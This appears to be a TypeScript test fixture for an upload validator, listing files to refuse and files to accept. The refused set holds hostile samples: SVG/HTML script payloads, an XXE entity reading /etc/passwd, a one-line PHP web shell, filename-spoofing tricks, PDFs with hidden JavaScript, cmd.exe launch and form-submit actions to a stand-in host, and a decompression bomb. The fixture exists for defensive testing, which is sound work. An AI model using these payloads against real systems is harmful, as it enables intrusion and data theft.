import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { SentFile } from '@/test/upload-client';
import { makePdf, makePicture } from './upload.factory';

/** Files that must not come in, each with its reason in its name, and those that must. Made here: none lies in the repository. */
export interface NamedFile {
  readonly what: string;
  readonly file: SentFile;
}

const bytes = (text: string) => Buffer.from(text, 'latin1');
const file = (what: string, name: string, type: string, content: Uint8Array | string, size?: number): NamedFile => ({
  what, file: { name, type, bytes: typeof content === 'string' ? bytes(content) : content, ...(size !== undefined && { size }) },
});

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><script>alert(document.domain)</script>';
const ZIP = Buffer.concat([bytes('PK\x03\x04'), Buffer.alloc(60)]);
const PDF = 'application/pdf';
const PNG = 'image/png';
const JPEG = 'image/jpeg';
const WEBP = 'image/webp';
const stream = (dictionary: string, content: Buffer) => `${dictionary}\nstream\n${content.toString('latin1')}\nendstream`;
const hex = (content: Buffer) => bytes(`${content.toString('hex')}>`);
const objects = (text: string) => stream(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 1 >>`, deflateSync(bytes(text)));

/** A PNG of a few bytes that says it is far larger. */
async function hugePng(side: number): Promise<Buffer> {
  const png = Buffer.from(await makePicture('png', 8));
  png.writeUInt32BE(side, 16);
  png.writeUInt32BE(side, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

function crc32(data: Uint8Array): number {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

const wrongKinds = (): NamedFile[] => [
  file('an SVG with a script', 'x.svg', 'image/svg+xml', SVG),
  file('an SVG under a PNG’s name', 'x.png', PNG, SVG),
  file('an SVG behind spaces', 'x.jpg', JPEG, `   ${SVG}`),
  file('HTML', 'x.html', 'text/html', HTML),
  file('HTML under a PNG’s name', 'a.png', PNG, HTML),
  file('HTML under a PDF’s name', 'a.pdf', PDF, HTML),
  file('HTML before a PDF', 'a.pdf', PDF, `${HTML}${makePdf().toString('latin1')}`),
  file('XML', 'a.xml', 'application/xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  file('a script', 'a.js', 'text/javascript', 'alert(1)'),
  file('a program', 'a.exe', 'application/octet-stream', `MZ${'\0'.repeat(60)}`),
  file('a program under a PDF’s name', 'a.pdf', PDF, `MZ${'\0'.repeat(60)}`),
  file('a GIF with a script', 'a.gif', 'image/gif', `GIF89a/*${'\0'.repeat(8)}*/=1;<script>alert(1)</script>`),
  file('a GIF under a PNG’s name', 'a.png', PNG, 'GIF89a<script>alert(1)</script>'),
  file('a zip', 'a.zip', 'application/zip', ZIP),
  file('a zip as an office file', 'a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', ZIP),
  file('a zip under a PDF’s name', 'a.pdf', PDF, ZIP),
  file('PHP behind a picture’s name', 'a.jpg.php', JPEG, '<?php system($_GET["c"]);'),
  file('PHP under a picture’s name', 'a.php.jpg', JPEG, '<?php system($_GET["c"]);'),
  file('an icon', 'a.ico', 'image/x-icon', '\0\0\x01\0'),
  file('a TIFF under a JPEG’s name', 'a.jpg', JPEG, 'II*\0\x08\0\0\0'),
  file('an AVIF', 'a.avif', 'image/avif', '\0\0\0\x1cftypavif'),
  file('no ending', 'licence', PDF, makePdf()),
  file('an ending of nothing', 'licence.', PDF, makePdf()),
  file('an ending behind a NUL', 'licence.pdf\0.html', 'text/html', HTML),
  file('an ending turned round', 'licence\u202efdp.html', 'text/html', HTML),
];

const wrongContents = async (): Promise<NamedFile[]> => [
  file('a PNG under a JPEG’s name', 'a.jpg', JPEG, await makePicture('png')),
  file('a JPEG under a WEBP’s name', 'a.webp', WEBP, await makePicture('jpeg')),
  file('a PDF under a PNG’s name', 'a.png', PNG, makePdf()),
  file('a PNG said to be a PDF', 'a.png', PDF, await makePicture('png')),
  file('0 bytes', 'a.pdf', PDF, ''),
  file('0 bytes said to be 10', 'a.pdf', PDF, '', 10),
  file('6 MB', 'a.pdf', PDF, Buffer.concat([makePdf(), Buffer.alloc(6 * 1024 * 1024, 32), bytes('%%EOF')])),
  file('6 MB said to be 1 KB', 'a.pdf', PDF, Buffer.concat([makePdf(), Buffer.alloc(6 * 1024 * 1024, 32), bytes('%%EOF')]), 1024),
  file('fewer bytes than said', 'a.pdf', PDF, makePdf(), 5000),
  file('a size below nothing', 'a.pdf', PDF, makePdf(), -1),
  file('a size that is no number of bytes', 'a.pdf', PDF, makePdf(), 10.5),
  file('a PNG of 30 000 by 30 000', 'a.png', PNG, await hugePng(30_000)),
  file('a PNG of 7 000 by 7 000', 'a.png', PNG, await hugePng(7_000)),
  file('half a PNG', 'a.png', PNG, (await makePicture('png', 256)).subarray(0, 90)),
  file('half a JPEG', 'a.jpg', JPEG, (await makePicture('jpeg', 256)).subarray(0, 200)),
  file('the first bytes of a WEBP alone', 'a.webp', WEBP, 'RIFF\x10\0\0\0WEBPVP8 '),
  file('the first bytes of a PNG and HTML', 'a.png', PNG, Buffer.concat([(await makePicture('png')).subarray(0, 8), bytes(HTML)])),
];

const actingPdfs = (): NamedFile[] => [
  file('a PDF with a script', 'a.pdf', PDF, makePdf('x', '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>')),
  file('a PDF with a script in #-escapes', 'a.pdf', PDF, makePdf('x', '<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>')),
  file('a PDF with a rendition’s script', 'a.pdf', PDF, makePdf('x', '<< /S /Rendition /JS (app.alert\\(1\\)) >>')),
  file('a PDF with a script in a compressed object', 'a.pdf', PDF, makePdf('x', objects('7 0 << /S /JavaScript /JS (1) >>'))),
  file('a PDF with a compressed object that is named in #-escapes', 'a.pdf', PDF, makePdf('x', objects('7 0 << /S /Launch /F (cmd.exe) >>').replace('/ObjStm', '/Obj#53tm'))),
  ...([['in hexadecimal digits', '/ASCIIHexDecode', hex], ['in hexadecimal digits over a compressed one', '[/ASCIIHexDecode /FlateDecode]', (text: Buffer) => hex(deflateSync(text))], ['compressed twice', '[/FlateDecode /FlateDecode]', (text: Buffer) => deflateSync(deflateSync(text))], ['under short names', '[ /AHx/Fl ]', (text: Buffer) => hex(deflateSync(text))], ['in a way that is not opened here', '[/ASCII85Decode /FlateDecode]', (text: Buffer) => text], ['that a reference names', '9 0 R', (text: Buffer) => deflateSync(text)], ['that does not open', '/FlateDecode', (text: Buffer) => text]] as const).map(([how, filter, pack]) =>
    file(`a PDF with a script in an object stream ${how}`, 'a.pdf', PDF, makePdf('x', stream(`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length 1 >>`, pack(bytes('7 0 << /S /JavaScript /JS (1) >>')))))),
  file('a PDF with an object stream behind a predictor', 'a.pdf', PDF, makePdf('x', stream('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >> /Length 1 >>', deflateSync(bytes('7 0 << >>'))))),
  file('a PDF with a compressed object whose head is hidden', 'a.pdf', PDF, makePdf('x', objects('7 0 << /S /JavaScript /JS (1) >>').replace('/N 1', '/N 1 /X (obj)'))),
  file('a PDF with an object stream of two filters', 'a.pdf', PDF, makePdf('x', objects('7 0 << >>').replace('/N 1', '/Filter /ASCIIHexDecode /N 1'))),
  file('a PDF that opens an address', 'a.pdf', PDF, makePdf('x', '<< /OpenAction << /Type /Action /S /URI /URI (http://evil.test) >> >>')),
  file('a PDF that opens an address of another object', 'a.pdf', PDF, makePdf('x', '<< /OpenAction 7 0 R >>\nendobj\n7 0 obj\n<< /S /URI /URI (http://evil.test) >>')),
  file('a PDF whose page opens an address of a compressed object', 'a.pdf', PDF, makePdf('x', `<< /AA << /O 7 0 R >> >>\nendobj\n8 0 obj\n${objects('7 0 << /S /URI /URI (http://evil.test) >>')}`)),
  file('a PDF with a zip behind its end', 'a.pdf', PDF, Buffer.concat([makePdf(), ZIP])),
  file('a PDF with a page of HTML behind its end', 'a.pdf', PDF, `${makePdf().toString('latin1')}${HTML}`),
  file('a PDF with a large zip behind its end', 'a.pdf', PDF, Buffer.concat([makePdf(), ZIP, Buffer.alloc(2000, 65)])),
  file('a PDF that starts a program', 'a.pdf', PDF, makePdf('x', '<< /S /Launch /F (cmd.exe) >>')),
  file('a PDF with a file inside', 'a.pdf', PDF, makePdf('x', '<< /Type /EmbeddedFile /Length 0 >>')),
  file('a PDF with files inside', 'a.pdf', PDF, makePdf('x', '<< /EmbeddedFiles 9 0 R >>')),
  file('a PDF with a form that is a program', 'a.pdf', PDF, makePdf('x', '<< /XFA 9 0 R >>')),
  file('a PDF that sends what is typed', 'a.pdf', PDF, makePdf('x', '<< /S /SubmitForm /F (http://evil.test) >>')),
  file('a PDF that nobody may look into', 'a.pdf', PDF, makePdf('x', '<< /Encrypt 9 0 R >>')),
  file('a PDF that inflates to 64 MB', 'a.pdf', PDF, makePdf('x', stream('<< /Type /ObjStm /Filter /FlateDecode >>', deflateSync(Buffer.alloc(64 * 1024 * 1024))))),
  file('a PDF without an end', 'a.pdf', PDF, makePdf().toString('latin1').replace('%%EOF', '')),
  file('a PDF that is a header alone', 'a.pdf', PDF, '%PDF-1.7\n'),
  file('a PDF with something before its header', 'a.pdf', PDF, ` ${makePdf().toString('latin1')}`),
];

/** Everything that must be refused. */
export async function hostileFiles(): Promise<NamedFile[]> {
  return [...wrongKinds(), ...(await wrongContents()), ...actingPdfs()];
}

/** Everything that must come in. */
export async function goodFiles(): Promise<NamedFile[]> {
  const withPlace = await sharp(await makePicture('jpeg', 64)).withExif({ IFD3: { GPSLatitude: '18/1 57/1 0/1' } }).toBuffer();
  return [
    file('a PDF', 'licence.pdf', PDF, makePdf()),
    file('a PDF with a capital ending', 'LICENCE.PDF', PDF, makePdf()),
    file('a PDF with compressed objects', 'a.pdf', PDF, makePdf('x', objects('7 0 << /Type /Catalog >>'))),
    file('a PDF with objects in hexadecimal digits', 'a.pdf', PDF, makePdf('x', stream('<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length 1 >>', hex(deflateSync(bytes('7 0 << /Type /Catalog >>')))))),
    file('a PDF with a picture and a page in chains of filters', 'a.pdf', PDF, makePdf('x', `${stream('<< /Subtype /Image /Filter [/ASCII85Decode /DCTDecode] /Length 1 >>', bytes('abc~>'))}\nendobj\n8 0 obj\n${stream('<< /Filter [/ASCII85Decode /LZWDecode] /DecodeParms [null null] /Length 1 >>', bytes('abc~>'))}`)),
    file('a PDF with a link to click and a place where it opens', 'a.pdf', PDF, makePdf('x', '<< /OpenAction [3 0 R /Fit] /Annots [<< /Subtype /Link /A << /S /URI /URI (https://port.example) >> >>] >>')),
    file('a PDF with blanks behind its end', 'a.pdf', PDF, `${makePdf().toString('latin1')}\r\n${'\0'.repeat(2000)}\n`),
    file('a PNG', 'a.png', PNG, await makePicture('png')),
    file('a JPEG', 'a.jpg', JPEG, await makePicture('jpeg')),
    file('a JPEG that says where it was taken', 'photo.jpeg', JPEG, withPlace),
    file('a WEBP', 'a.webp', WEBP, await makePicture('webp')),
    file('a PNG with HTML behind its end', 'a.png', PNG, Buffer.concat([await makePicture('png'), bytes(HTML)])),
    file('a PDF with a name in Arabic', 'رخصة الشركة.pdf', PDF, makePdf()),
  ];
}
